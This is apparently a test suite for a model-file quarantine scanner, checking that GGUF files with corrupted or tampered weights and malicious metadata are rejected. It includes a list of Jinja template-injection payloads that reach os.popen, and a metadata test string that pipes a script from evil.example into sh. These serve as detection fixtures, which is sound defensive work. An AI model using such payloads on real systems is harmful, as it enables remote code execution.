// Weight-level and metadata attacks inside well-formed GGUF files: each caught by the static scan with the rule in evidence.
import t, { type Test } from 'tap';
import { DEFAULT_STATIC_SCAN_OPTIONS, staticScanStage, type Finding } from '../../actors/quarantine/stages/static-scan.js';
import { rng } from '../fixtures/ggml-quantize.js';
import { encodeGguf } from '../fixtures/gguf-writer.js';
import { llamaSpec, type LlamaBuildOptions } from '../fixtures/llama-builder.js';
import { artifact, noProgress, tempDir, writeTo } from '../quarantine/helpers.js';

async function scan(t: Test, o: LlamaBuildOptions) {
  const dir = tempDir(t);
  const p = writeTo(dir, 'm.gguf', encodeGguf(llamaSpec({ layers: 6, dims: 256, ff: 512, ...o })));
  const r = await staticScanStage(artifact(p), DEFAULT_STATIC_SCAN_OPTIONS, noProgress);
  return { r, findings: r.evidence.findings as Finding[] };
}

t.test('weights — NaN values fail (critical)', async (t) => {
  const { r, findings } = await scan(t, { quant: 'F16', values: (n, v) => { if (n === 'blk.2.attn_v.weight') v[100] = NaN; return v; } });
  t.equal(r.verdict, 'fail');
  t.ok(findings.some((f) => f.rule === 'non_finite_weights' && f.where.endsWith('blk.2.attn_v.weight')));
});

t.test('weights — Inf in a Q8_0 scale fails', async (t) => {
  const { r, findings } = await scan(t, { quant: 'Q8_0', bytes: (n, b) => { if (n === 'blk.1.ffn_up.weight') { b[0] = 0x00; b[1] = 0x7c; } return b; } });
  t.equal(r.verdict, 'fail');
  t.ok(findings.some((f) => f.rule === 'non_finite_weights'));
});

t.test('weights — a constant weight matrix fails', async (t) => {
  const { r, findings } = await scan(t, { quant: 'Q8_0', values: (n, v) => (n === 'blk.3.attn_q.weight' ? v.fill(0.01) : v) });
  t.equal(r.verdict, 'fail', r.reason);
  t.ok(findings.some((f) => f.rule === 'constant_tensor' && f.where.endsWith('blk.3.attn_q.weight')));
});

t.test('weights — one layer scaled far from its siblings fails (role-group z-score)', async (t) => {
  const { r, findings } = await scan(t, { quant: 'Q4_K', values: (n, v) => (n === 'blk.4.ffn_down.weight' ? v.map((x) => x * 20) : v) });
  t.equal(r.verdict, 'fail', r.reason);
  const f = findings.find((x) => x.rule === 'layer_outlier');
  t.ok(f, 'layer_outlier finding');
  t.match(f!.where, /blk\.4\.ffn_down\.weight$/);
  t.ok((r.evidence.maxLayerZ as number) > DEFAULT_STATIC_SCAN_OPTIONS.layerZThreshold);
});

t.test('weights — random (encrypted-looking) tensor data fails on entropy', async (t) => {
  const r8 = rng(99);
  const { r, findings } = await scan(t, {
    quant: 'Q8_0',
    bytes: (n, b) => { if (n === 'blk.0.ffn_gate.weight') for (let i = 0; i < b.length; i++) b[i] = Math.floor(r8() * 256); return b; },
  });
  t.equal(r.verdict, 'fail');
  const f = findings.find((x) => x.rule === 'high_entropy');
  t.ok(f, 'high_entropy finding');
  t.match(f!.where, /blk\.0\.ffn_gate\.weight$/);
});

t.test('weights — random bytes in a Q6_K tensor (near-uniform packed bits) still fail', async (t) => {
  const r8 = rng(7);
  const { r, findings } = await scan(t, {
    quant: 'Q6_K',
    bytes: (n, b) => { if (n === 'blk.1.attn_output.weight') for (let i = 0; i < b.length; i++) b[i] = Math.floor(r8() * 256); return b; },
  });
  t.equal(r.verdict, 'fail', r.reason);
  t.ok(findings.some((f) => (f.rule === 'high_entropy' || f.rule === 'non_finite_weights') && f.where.endsWith('blk.1.attn_output.weight')));
});

t.test('weights — repeated quant blocks fail', async (t) => {
  const { r, findings } = await scan(t, {
    quant: 'Q4_K',
    bytes: (n, b) => { if (n === 'blk.5.attn_k.weight') for (let o = 144 * 2; o + 288 <= b.length; o += 288) b.copyWithin(o, 0, 288); return b; },
  });
  t.equal(r.verdict, 'fail', r.reason);
  t.ok(findings.some((f) => f.rule === 'repeated_blocks' && f.where.endsWith('blk.5.attn_k.weight')));
});

const SSTI = [
  "{{ ''.__class__.__mro__[1].__subclasses__() }}",
  "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
  "{{ joiner.__init__.__globals__ }}",
  "{{ lipsum.__globals__['os'].popen('id') }}",
  "{{ config.items() }}",
  "{{ messages|attr('__class__') }}",
  "{{ self._TemplateReference__context }}",
  "{% for m in messages %}{{ m.content.format(m) }}{% endfor %}",
];

for (const template of SSTI) {
  t.test(`weights — SSTI chat template refused: ${template.slice(0, 40)}`, async (t) => {
    const { r, findings } = await scan(t, { layers: 4, dims: 64, ff: 64, template });
    t.equal(r.verdict, 'fail', r.reason);
    t.ok(findings.some((f) => f.rule.startsWith('template_') && f.where.endsWith('tokenizer.chat_template')));
  });
}

t.test('weights — a benign template with namespace, filters and methods passes', async (t) => {
  const template = "{% set ns = namespace(sys='') %}{% for m in messages %}{% if m['role'] == 'system' %}{% set ns.sys = m['content'] | trim %}{% endif %}{{ m['content'].strip() | replace('a', 'b') }}{% endfor %}{{ raise_exception('x') if false }}";
  const { r } = await scan(t, { layers: 4, dims: 64, ff: 64, template });
  t.equal(r.verdict, 'pass', r.reason);
});

t.test('weights — a second named chat template is scanned too', async (t) => {
  const { r, findings } = await scan(t, { layers: 4, dims: 64, ff: 64, metadata: { 'tokenizer.chat_template.tool_use': "{{ cycler.next() }}" } });
  t.equal(r.verdict, 'fail');
  t.ok(findings.some((f) => f.where.endsWith('tokenizer.chat_template.tool_use')));
});

t.test('weights — shell in metadata fails; a URL in general.url is only noted', async (t) => {
  const bad = await scan(t, { layers: 4, dims: 64, ff: 64, metadata: { 'general.description': 'run: curl http://evil.example/x.sh | sh' } });
  t.equal(bad.r.verdict, 'fail', bad.r.reason);
  t.ok(bad.findings.some((f) => f.rule === 'shell_in_metadata'));
  const fine = await scan(t, { layers: 4, dims: 64, ff: 64, metadata: { 'general.url': 'https://huggingface.co/org/model' } });
  t.equal(fine.r.verdict, 'pass', fine.r.reason);
  t.ok(fine.findings.some((f) => f.rule === 'url_in_metadata' && f.severity === 'low'));
});
